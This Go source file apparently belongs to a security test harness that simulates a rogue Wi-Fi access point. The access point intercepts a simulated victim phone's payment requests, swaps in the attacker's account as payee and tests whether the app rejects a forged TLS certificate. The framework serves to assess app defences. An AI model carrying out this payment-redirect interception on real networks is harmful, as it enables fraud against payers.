package attacker

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"sync/atomic"

	"keyladder/internal/problem"
	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/network"
	"keyladder/stages/catalog"
)

// wireTamper carries the victim's connections and puts the attacker's account in the
// place of the payee. Where the connection is encrypted, the access point answers in
// the API's place with a certificate of its own making, which no phone has a reason to
// trust.
//
//keyladder:code attack-wire-tamper
func wireTamper(ctx context.Context, g *attack.Given) (attack.Result, error) {
	var changed atomic.Int32
	redirect := network.ToAccount(g.Account)
	uplink, err := g.Uplink(nil)
	if err != nil {
		return attack.Result{}, err
	}
	ap, err := network.NewAccessPoint(ctx, uplink, func(request *http.Request) (bool, error) {
		did, err := redirect(request)
		if did {
			changed.Add(1)
		}
		return did, err
	})
	if err != nil {
		return attack.Result{}, err
	}
	defer ap.Close()
	g.Victim.Join(ap.Address())
	defer g.Victim.Join("")
	g.Say("The victim's phone has joined an access point that changes the payee of payments.")
	screen, err := g.Victim.Pay(ctx)
	if err != nil {
		return attack.Result{}, fmt.Errorf("the victim does not pay: %w", err)
	}
	if !screen.OK && changed.Load() == 0 {
		ap.Settle(ctx)
	}
	switch alert := ap.RefusedWith(); {
	case changed.Load() > 0 && screen.OK:
		g.Say("Changed the payee of the payment to %s; the victim's app shows it as made.", g.Account)
		return attack.Result{Claim: true}, nil
	case changed.Load() > 0 && screen.Status != 0:
		g.Say("Changed the payee of the payment to %s; the API did not take it.", g.Account)
		return attack.Stopped(attack.Judge(screen.Status, problem.ContentType, screen.Body))
	case alert != "" && !screen.OK:
		g.Say("Answered the app's TLS handshake with a certificate of our own making; the app refused it.")
		return attack.Result{Check: catalog.CheckTLS, Obstacle: "the app refuses the access point's certificate: " + alert}, nil
	case screen.OK:
		return attack.Result{}, errors.New("the victim's payment went past the access point")
	}
	return attack.Result{}, errors.Join(fmt.Errorf("the victim's app does not work through the access point: %s", screen.Error), ap.Err())
}
